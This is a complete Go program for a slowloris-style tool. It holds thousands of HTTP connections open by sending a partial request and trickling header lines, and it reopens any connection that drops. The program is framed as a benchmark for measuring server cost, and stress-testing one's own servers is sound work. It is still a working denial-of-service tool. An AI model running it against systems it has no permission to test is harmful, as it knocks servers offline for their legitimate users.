// Command slowloris holds HTTP connections whose request never ends: it sends
// a header line on each every few seconds, and opens anew what was closed. It
// costs next to no CPU itself, so that a benchmark sees what it costs a server.
//
//	slowloris -n 2000 -every 5s 192.0.2.1:80
package main

import (
	"flag"
	"fmt"
	"net"
	"os"
	"sync/atomic"
	"time"
)

func main() {
	n := flag.Int("n", 2000, "connections")
	every := flag.Duration("every", 5*time.Second, "between two lines of one connection")
	from := flag.String("from", "", "address to connect from")
	flag.Parse()
	if flag.NArg() != 1 {
		flag.Usage()
		os.Exit(2)
	}
	d := net.Dialer{Timeout: 10 * time.Second}
	if *from != "" {
		d.LocalAddr = &net.TCPAddr{IP: net.ParseIP(*from)}
	}
	var open, opened atomic.Int64
	for range *n {
		go func() {
			for {
				hold(&d, flag.Arg(0), *every, &open, &opened)
				time.Sleep(*every)
			}
		}()
		time.Sleep(time.Millisecond)
	}
	for range time.Tick(5 * time.Second) {
		fmt.Printf("%d open, %d were opened\n", open.Load(), opened.Load())
	}
}

func hold(d *net.Dialer, to string, every time.Duration, open, opened *atomic.Int64) {
	c, err := d.Dial("tcp", to)
	if err != nil {
		return
	}
	defer c.Close()
	opened.Add(1)
	open.Add(1)
	defer open.Add(-1)
	for line := "GET / HTTP/1.1\r\nHost: x\r\n"; ; line = "X-A: b\r\n" {
		if _, err := fmt.Fprint(c, line); err != nil {
			return
		}
		time.Sleep(every)
	}
}
